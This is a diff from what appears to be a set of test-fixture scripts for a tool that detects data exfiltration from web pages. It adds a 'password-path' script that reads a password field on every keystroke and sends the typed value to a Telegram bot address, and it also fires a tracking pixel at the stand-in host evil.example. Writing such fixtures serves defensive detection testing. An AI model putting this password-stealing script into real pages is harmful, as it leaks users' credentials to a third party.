@@ -386,6 +386,18 @@ export const MAIN_WORLD_SCRIPTS = {
 })();`,
 
   /**
+   * Reads the password as it is typed and sends it in the path of its Telegram bot's address; with each key, also
+   * a pixel whose path holds nothing typed (the evidence report keeps that path whole).
+   */
+  'password-path': `(() => {
+  const field = document.querySelector('[data-role="password"]');
+  field.addEventListener('input', () => {
+    fetch('${TELEGRAM}/' + encodeURIComponent(field.value), { mode: 'no-cors' }).catch(() => {});
+    new Image().src = 'https://evil.example/ping/v2/status.gif';
+  });
+})();`,
+
+  /**
    * Image pixels that never touch `img.src`: `srcset` on a new Image, and on a <source> in a <picture>
    * (the browser fetches the candidate it picks).
    */
